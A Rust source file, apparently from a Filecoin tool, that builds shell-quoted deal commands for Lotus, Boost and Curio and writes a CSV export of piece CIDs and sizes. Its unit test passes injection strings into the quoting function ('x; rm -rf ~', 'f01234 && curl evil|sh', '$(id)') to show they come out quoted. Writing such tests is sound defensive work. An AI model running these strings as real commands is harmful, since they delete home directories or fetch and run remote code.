//! Deal commands and CSV for built batches, with the piece size each tool expects:
//!
//! * Lotus (legacy; deal-making left Lotus in v1.27.1): `lotus client deal
//!   --manual-piece-cid=… --manual-piece-size=<UNPADDED> <payload> <miner> <price> <duration>`;
//! * Boost: `boost offline-deal --provider=… --commp=… --piece-size=<PADDED> --payload-cid=…
//!   --duration=… --storage-price=… --verified=…`, and for the SP `boostd import-data
//!   <deal-uuid> <car>` (the UUID is what the client command prints);
//! * Curio: `sptool --actor … toolbox mk12-client offline-deal --provider … --commp …
//!   --piece-size <PADDED> --payload-cid … --duration … --storage-price … --verified=<bool>`
//!   (`--verified` always explicit: Curio defaults to false, Boost to true);
//! * CSV: `piece_cid,piece_size,piece_size_unpadded,car_size,payload_cid,car_file`.
//!
//! Values not given become `<placeholder>`s.

use super::file::BatchResult;

/// Deal parameters; `None` prints a placeholder.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DealParams {
    /// Storage provider (`f0…`).
    pub provider: Option<String>,
    /// Lotus legacy price, FIL per epoch.
    pub price: Option<String>,
    /// Duration in epochs (Boost and Curio default to 518400; Lotus prints `<duration>`).
    pub duration: Option<u64>,
    /// Boost/Curio storage price, attoFIL per GiB per epoch.
    pub storage_price: Option<String>,
    /// Verified (Fil+) deal.
    pub verified: bool,
    /// Client wallet.
    pub wallet: Option<String>,
    /// `sptool --actor` (defaults to the provider).
    pub actor: Option<String>,
}

impl Default for DealParams {
    fn default() -> Self {
        DealParams {
            provider: None,
            price: None,
            duration: None,
            storage_price: None,
            verified: true,
            wallet: None,
            actor: None,
        }
    }
}

/// Default deal duration of Boost and Curio (180 days of epochs).
pub const DEFAULT_DURATION: u64 = 518_400;

/// `s` as one shell word: unchanged when it holds only `A-Z a-z 0-9 _ - . , / : = @ % +`, else
/// in single quotes (a `'` inside becomes `'\''`). Exported commands quote every value they
/// interpolate, so a price, wallet or path can never run as shell code.
pub fn shell_word(s: &str) -> std::borrow::Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-.,/:=@%+".contains(c);
    if !s.is_empty() && s.chars().all(plain) {
        std::borrow::Cow::Borrowed(s)
    } else {
        std::borrow::Cow::Owned(format!("'{}'", s.replace('\'', "'\\''")))
    }
}

/// A given value as a shell word, or the placeholder (left for the operator to fill in).
fn or<'a>(v: &'a Option<String>, placeholder: &'a str) -> std::borrow::Cow<'a, str> {
    match v {
        Some(s) => shell_word(s),
        None => std::borrow::Cow::Borrowed(placeholder),
    }
}

/// The piece a deal is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DealPiece<'a> {
    /// Payload CID.
    pub payload_cid: &'a str,
    /// Piece CID v1.
    pub piece_cid: &'a str,
    /// Padded piece size.
    pub piece_size: u64,
    /// Unpadded piece size.
    pub piece_size_unpadded: u64,
}

impl<'a> From<&'a BatchResult> for DealPiece<'a> {
    fn from(r: &'a BatchResult) -> Self {
        DealPiece {
            payload_cid: &r.payload_cid,
            piece_cid: &r.piece_cid,
            piece_size: r.piece_size,
            piece_size_unpadded: r.piece_size_unpadded,
        }
    }
}

/// Boost `offline-deal` (padded piece size, `--verified` explicit).
pub fn boost_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
    let mut s = format!(
        "boost offline-deal --provider={} --commp={} --piece-size={} --payload-cid={} --duration={} --storage-price={} --verified={}",
        or(&p.provider, "<miner>"),
        piece.piece_cid,
        piece.piece_size,
        piece.payload_cid,
        p.duration.unwrap_or(DEFAULT_DURATION),
        or(&p.storage_price, "<storage-price>"),
        p.verified,
    );
    if let Some(w) = &p.wallet {
        s.push_str(&format!(" --wallet={}", shell_word(w)));
    }
    s
}

/// Lotus legacy `client deal` (UNPADDED piece size, which Lotus expects).
pub fn lotus_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
    let from = p.wallet.as_ref().map(|w| format!("--from={} ", shell_word(w))).unwrap_or_default();
    format!(
        "lotus client deal {from}--manual-piece-cid={} --manual-piece-size={} --verified-deal={} {} {} {} {}",
        piece.piece_cid,
        piece.piece_size_unpadded,
        p.verified,
        piece.payload_cid,
        or(&p.provider, "<miner>"),
        or(&p.price, "<price>"),
        p.duration.map(|d| d.to_string()).unwrap_or_else(|| "<duration>".into()),
    )
}

/// Curio `sptool … mk12-client offline-deal` (padded piece size, `--verified` explicit).
pub fn curio_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
    let actor = p.actor.as_ref().or(p.provider.as_ref()).map(|a| shell_word(a)).unwrap_or("<actor>".into());
    let mut s = format!(
        "sptool --actor {actor} toolbox mk12-client offline-deal --provider {} --commp {} --piece-size {} --payload-cid {} --duration {} --storage-price {} --verified={}",
        or(&p.provider, "<miner>"),
        piece.piece_cid,
        piece.piece_size,
        piece.payload_cid,
        p.duration.unwrap_or(DEFAULT_DURATION),
        or(&p.storage_price, "<storage-price>"),
        p.verified,
    );
    if let Some(w) = &p.wallet {
        s.push_str(&format!(" --wallet {}", shell_word(w)));
    }
    s
}

/// Export formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// Lotus legacy `client deal`.
    Lotus,
    /// Boost `offline-deal` plus the SP's `boostd import-data`.
    Boost,
    /// Curio `sptool toolbox mk12-client offline-deal`.
    Curio,
    /// CSV, one row per batch.
    Csv,
}

/// CSV header.
pub const CSV_HEADER: &str = "piece_cid,piece_size,piece_size_unpadded,car_size,payload_cid,car_file";

fn csv_field(s: &str) -> String {
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// Writes the export of built batches: `(result, CAR path as shown)` in batch order.
pub fn export(format: Format, p: &DealParams, batches: &[(&BatchResult, String)]) -> String {
    let mut out = String::new();
    match format {
        Format::Csv => {
            out.push_str(CSV_HEADER);
            out.push('\n');
            for (r, car) in batches {
                out.push_str(&format!(
                    "{},{},{},{},{},{}\n",
                    r.piece_cid,
                    r.piece_size,
                    r.piece_size_unpadded,
                    r.car_size,
                    r.payload_cid,
                    csv_field(car)
                ));
            }
        }
        Format::Lotus | Format::Boost | Format::Curio => {
            let title = match format {
                Format::Lotus => {
                    "Lotus legacy `client deal` (removed in Lotus v1.27.1; --manual-piece-size is UNPADDED)"
                }
                Format::Boost => "Boost `offline-deal` (--piece-size is PADDED); the SP imports each CAR with boostd",
                _ => "Curio `sptool toolbox mk12-client offline-deal` (--piece-size is PADDED)",
            };
            out.push_str(&format!("# carload shipment export: {title}\n"));
            out.push_str(&format!("# {} batches\n", batches.len()));
            for (r, car) in batches {
                let piece = DealPiece::from(*r);
                out.push_str(&format!(
                    "\n# {}: {} ({} bytes, piece {} padded / {} unpadded)\n",
                    r.batch,
                    crate::text::escape_controls(car),
                    r.car_size,
                    r.piece_size,
                    r.piece_size_unpadded
                ));
                match format {
                    Format::Lotus => out.push_str(&lotus_command(p, &piece)),
                    Format::Boost => {
                        out.push_str(&boost_command(p, &piece));
                        out.push_str(&format!(
                            "\n# SP: boostd import-data <deal-uuid> {}",
                            crate::text::escape_controls(&shell_word(car))
                        ));
                    }
                    _ => {
                        out.push_str(&curio_command(p, &piece));
                        out.push_str(&format!(
                            "\n# SP: curio market add-url --url <url-of-{}> <deal-uuid> {}",
                            crate::text::escape_controls(&r.batch),
                            r.car_size
                        ));
                    }
                }
                out.push('\n');
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn interpolated_values_are_quoted_for_the_shell() {
        assert_eq!(shell_word("f01234"), "f01234");
        assert_eq!(shell_word("0.0000001"), "0.0000001");
        assert_eq!(shell_word("x; rm -rf ~"), "'x; rm -rf ~'");
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(shell_word(""), "''");
        let p = DealParams {
            provider: Some("f01234 && curl evil|sh".into()),
            wallet: Some("$(id)".into()),
            ..DealParams::default()
        };
        let piece = DealPiece { payload_cid: "bafy", piece_cid: "baga", piece_size: 128, piece_size_unpadded: 127 };
        let boost = boost_command(&p, &piece);
        assert!(boost.contains("--provider='f01234 && curl evil|sh'") && boost.contains("--wallet='$(id)'"), "{boost}");
        assert!(lotus_command(&p, &piece).contains("--from='$(id)'"));
        assert!(curio_command(&p, &piece).starts_with("sptool --actor 'f01234 && curl evil|sh'"));
        // Placeholders stay as they are, for the operator to fill in.
        assert!(boost_command(&DealParams::default(), &piece).contains("--provider=<miner>"));
    }
}
